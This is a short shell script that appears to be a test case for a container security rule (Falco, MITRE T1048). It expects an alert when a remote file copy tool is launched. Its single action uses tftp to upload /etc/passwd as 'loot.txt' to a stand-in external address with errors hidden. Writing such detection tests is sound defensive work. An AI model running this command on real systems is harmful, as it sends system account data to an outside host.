#!/bin/sh
# title: File sent out with a remote copy tool (tftp)
# technique: T1048 Exfiltration Over Alternative Protocol
# source: https://attack.mitre.org/techniques/T1048/ ; Falco "Launch Remote File Copy Tools in Container"
# expect: Remote file copy tool launched
/bin/tftp -p -l /etc/passwd -r loot.txt 198.51.100.1 6969 2>/dev/null
true
